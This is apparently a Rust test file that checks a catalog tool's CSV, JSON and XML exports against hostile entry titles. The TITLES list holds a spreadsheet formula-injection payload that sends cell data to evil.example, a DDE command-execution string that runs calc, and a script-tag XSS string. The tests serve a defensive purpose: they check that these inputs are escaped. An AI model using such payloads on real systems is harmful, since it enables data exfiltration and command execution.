//! The machine-readable exports survive hostile titles: catalog.csv opens in a spreadsheet
//! without running a formula, and feed.xml and sitemap.xml parse as XML and give back
//! every title exactly.

mod common;

use common::{catalog, copcat, fixtures};
use quick_xml::events::Event;

const TITLES: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Escaping <script>alert(\"t\")</script> & 'quotes'",
];

fn built() -> tempfile::TempDir {
    let dir = catalog("base", &[&fixtures().join("exports")]);
    let run = copcat(&["build"], dir.path());
    assert_eq!(run.code, 0, "{}", run.stderr);
    dir
}

#[test]
fn csv_has_a_byte_order_mark_that_readers_skip_and_json_a_version() {
    let dir = built();
    let bytes = std::fs::read(dir.path().join("public/catalog.csv")).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "Excel needs the BOM to read UTF-8");
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    assert_eq!(&reader.headers().unwrap()[0], "id", "a CSV reader skips the BOM");
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("public/catalog.json")).unwrap()).unwrap();
    assert_eq!(json["version"], 1);
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_text() {
    let dir = built();
    let mut reader = csv::Reader::from_path(dir.path().join("public/catalog.csv")).unwrap();
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|field| field == name).unwrap();
    let (title, summary) = (column("title"), column("summary"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(rows.len() >= 7, "every published entry is a row");
    for row in &rows {
        for cell in [&row[title], &row[summary]] {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
        }
    }
    let titles: Vec<&str> = rows.iter().map(|row| &row[title]).collect();
    for expected in TITLES {
        let shown = if expected.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            format!("'{expected}")
        } else {
            expected.to_string()
        };
        assert!(titles.contains(&shown.as_str()), "{shown:?} not in {titles:?}");
    }
    let summaries: Vec<&str> = rows.iter().map(|row| &row[summary]).collect();
    assert!(summaries.contains(&"'-2+3, with a comma, \"quotes\"\nand a line break & <angle> brackets"));
}

/// The text of every `<title>` in an XML document, failing on anything not well-formed.
fn xml_titles(xml: &str) -> Vec<String> {
    let mut reader = quick_xml::Reader::from_str(xml);
    reader.config_mut().check_end_names = true;
    let (mut titles, mut in_title) = (Vec::new(), false);
    loop {
        match reader.read_event().unwrap_or_else(|error| panic!("not well-formed XML: {error}\n{xml}")) {
            Event::Start(tag) if tag.name().as_ref() == "title" => {
                in_title = true;
                titles.push(String::new());
            }
            Event::End(tag) if tag.name().as_ref() == "title" => in_title = false,
            Event::Text(text) if in_title => {
                titles.last_mut().unwrap().push_str(&text.xml10_content());
            }
            Event::GeneralRef(reference) if in_title => {
                let name = reference.xml10_content();
                let character = reference.resolve_char_ref().unwrap().map(String::from);
                let resolved =
                    character.or_else(|| quick_xml::escape::resolve_xml_entity(&name).map(String::from));
                titles
                    .last_mut()
                    .unwrap()
                    .push_str(&resolved.unwrap_or_else(|| panic!("unknown entity &{name};")));
            }
            Event::Eof => break,
            _ => {}
        }
    }
    titles
}

#[test]
fn feed_and_sitemap_are_well_formed_and_titles_round_trip() {
    let dir = built();
    let feed = std::fs::read_to_string(dir.path().join("public/feed.xml")).unwrap();
    let titles = xml_titles(&feed);
    for expected in TITLES {
        assert!(titles.iter().any(|title| title == expected), "{expected:?} not in {titles:?}");
    }
    let sitemap = std::fs::read_to_string(dir.path().join("public/sitemap.xml")).unwrap();
    xml_titles(&sitemap);
    assert!(sitemap.contains("<loc>https://example.org/cop/roles/formulas/</loc>"));
}

#[test]
fn invisible_control_characters_stop_the_build_before_any_export() {
    let dir = catalog("base", &[&fixtures().join("invalid/control-characters")]);
    let run = copcat(&["build"], dir.path());
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("\"title\" contains the invisible character \\u{0001}"), "{}", run.stderr);
    assert!(!dir.path().join("public").exists(), "nothing is published");
}

#[test]
fn a_catalog_past_the_part_size_is_split_into_parts_that_an_index_lists() {
    let dir = catalog("base", &[&fixtures().join("exports")]);
    let mut diagnostics = Vec::new();
    let catalog =
        copcat::load_catalog(dir.path(), &copcat::LoadOptions::default(), &mut diagnostics).unwrap().unwrap();
    let whole = copcat::render::feeds::catalog_exports(&catalog, copcat::render::feeds::PART_BYTES);
    let names: Vec<&str> = whole.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(names, ["catalog.json", "catalog.csv"], "a small catalog keeps its single files");
    let whole: serde_json::Value = serde_json::from_slice(&whole[0].bytes).unwrap();
    let files = copcat::render::feeds::catalog_exports(&catalog, 1500);
    let file = |name: &str| &files.iter().find(|file| file.path == name).unwrap().bytes;
    let index: serde_json::Value = serde_json::from_slice(file("catalog.json")).unwrap();
    assert_eq!(index["version"], 2);
    assert!(index.get("entries").is_none(), "the index holds no entries");
    let parts = index["parts"].as_array().unwrap();
    assert!(parts.len() > 1, "{index}");
    let mut entries = Vec::new();
    let mut rows = 0;
    for (n, part) in parts.iter().enumerate() {
        let json: serde_json::Value = serde_json::from_slice(file(part["json"].as_str().unwrap())).unwrap();
        assert_eq!(
            (json["part"].as_u64(), json["parts_count"].as_u64()),
            (Some(n as u64 + 1), Some(parts.len() as u64))
        );
        let these = json["entries"].as_array().unwrap();
        assert_eq!(part["entries"].as_u64(), Some(these.len() as u64));
        assert_eq!(part["first"], these[0]["id"]);
        entries.extend(these.iter().cloned());
        let csv = file(part["csv"].as_str().unwrap());
        rows += csv::Reader::from_reader(csv.as_slice()).records().count();
    }
    assert_eq!(
        &serde_json::Value::Array(entries),
        &whole["entries"],
        "the parts hold every entry once, in order"
    );
    assert_eq!(rows, whole["entries"].as_array().unwrap().len());
    let index_csv = csv::Reader::from_reader(file("catalog.csv").as_slice()).records().count();
    assert_eq!(index_csv, parts.len(), "catalog.csv lists the parts");
}
